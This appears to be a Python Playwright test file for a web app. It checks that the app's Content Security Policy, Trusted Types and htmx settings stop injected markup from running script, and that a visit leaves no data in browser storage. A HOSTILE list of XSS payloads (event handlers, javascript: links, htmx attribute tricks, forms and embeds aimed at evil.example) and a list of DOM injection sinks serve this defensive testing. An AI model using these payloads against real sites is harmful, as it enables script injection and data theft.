"""What the policy and htmx's configuration do in a browser, point by point (docs/security.md has them in a table)."""

from functools import partial

from playwright.sync_api import Page, Route, expect

from e2e.making import a_menu, open_work
from e2e.witness import Witness

BLOCKED = "Content Security Policy"  # how the console names it
# in a task of the page's own, because what a debugger evaluates may do more
TRIED = """() => new Promise((told) => setTimeout(() => {
  try { %s; told("done"); } catch (error) { told(error.name); }
}))"""


HOSTILE = (
    "<script>window.__xss = 1</script>",
    "<script src='/assets/x.js'></script><p>after</p>",
    "<img src='data:,' onerror='window.__xss = 1'>",
    "<svg onload='window.__xss = 1'></svg>",
    "<p style='position: fixed'>x</p><style>body { display: none }</style>",
    "<a id=link href='javascript:window.__xss = 1'>x</a>",
    "<button id=button hx-on:click='window.__xss = 1'>x</button>",
    "<button id=button hx-on='click: window.__xss = 1'>x</button>",
    "<button id=button onclick='window.__xss = 1'>x</button>",
    "<button id=button hx-get='/planted' hx-vals='js:{a: window.__xss = 1}'>x</button>",
    "<button id=button hx-get='/planted' hx-trigger='click[window.__xss = 1]'>x</button>",
    "<button id=button hx-get='https://evil.example/'>x</button>",
    "<iframe srcdoc='<script>top.__xss = 1</script>'></iframe>",
    "<form action='https://evil.example/' method=post><button id=button>x</button></form>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/'><img src='https://evil.example/'>",
    "<base href='https://evil.example/'><img src='asked.png'>",
)
SWAP = "() => htmx.ajax('GET', '/planted', {target: '#content', swap: 'innerHTML'}).catch(() => {})"


def _answer(html: str, route: Route) -> None:
    route.fulfill(content_type="text/html", body=html)


def test_a_string_becomes_no_markup(nora: Page, witness: Witness) -> None:
    witness.expect("Trusted", "CSP:")
    nora.goto("/about")
    sinks = {
        "innerHTML": "document.createElement('p').innerHTML = '<b>x</b>'",
        "outerHTML": "document.querySelector('footer').outerHTML = '<b>x</b>'",
        "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.write": "document.write('<b>x</b>')",
        "parseFromString": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
        "parseHTMLUnsafe": "Document.parseHTMLUnsafe('<b>x</b>')",
        "srcdoc": "document.createElement('iframe').srcdoc = '<b>x</b>'",
        "fragment": "document.createRange().createContextualFragment('<b>x</b>')",
        "script": "document.createElement('script').text = 'x'",
        "script source": "document.createElement('script').src = '/assets/x.js'",
        "another policy": "trustedTypes.createPolicy('evil', {createHTML: (html) => html})",
        "the same policy": "trustedTypes.createPolicy('htmx', {createHTML: (html) => html})",
        "eval": "(0, eval)('1')",
        "Function": "new Function('return 1')()",
    }
    for name, sink in sinks.items():
        assert nora.evaluate(TRIED % sink) in ("TypeError", "EvalError"), name


def test_even_where_escaping_failed_no_script_runs(nora: Page, witness: Witness) -> None:
    """Answered by a route as if a template had let it through, and swapped in by htmx."""
    witness.expect(BLOCKED, "CSP:", "Trusted", "htmx", "unsafe-eval", "EvalError", "404", "405", "frame")
    went: list[str] = []

    def gone(route: Route) -> None:
        went.append(route.request.url)
        route.abort()

    nora.goto("/about")
    for html in HOSTILE:
        nora.unroute_all()
        nora.route("**://evil.example/**", gone)
        nora.route("**/planted*", partial(_answer, html))
        nora.evaluate(SWAP)
        for id_ in ("button", "link"):
            if nora.locator(f"#content #{id_}").count():
                nora.locator(f"#content #{id_}").click(no_wait_after=True)
                nora.wait_for_timeout(100)
        assert nora.evaluate("() => window.__xss") is None, html
    assert went == []


def test_nothing_of_a_visit_stays_in_the_browser(nora: Page) -> None:
    """XS-5: the tour of somebody who searches, keeps, composes and goes back and forth."""
    open_work(nora)
    nora.get_by_label("Notes").fill("A private thought.")
    nora.locator("#entry-save").click()
    expect(nora.locator("#entry-said")).to_have_text("Saved.")
    a_menu(nora, "Sand", "Dune Messiah")
    nora.go_back()
    nora.go_forward()
    kept = nora.evaluate("() => JSON.stringify([{...localStorage}, {...sessionStorage}])")
    assert kept == "[{},{}]"
    assert nora.evaluate("async () => (await indexedDB.databases()).length + (await caches.keys()).length") == 0
    assert nora.evaluate("() => document.cookie") == ""
    assert "private thought" not in nora.evaluate("() => JSON.stringify(history.state ?? '')")
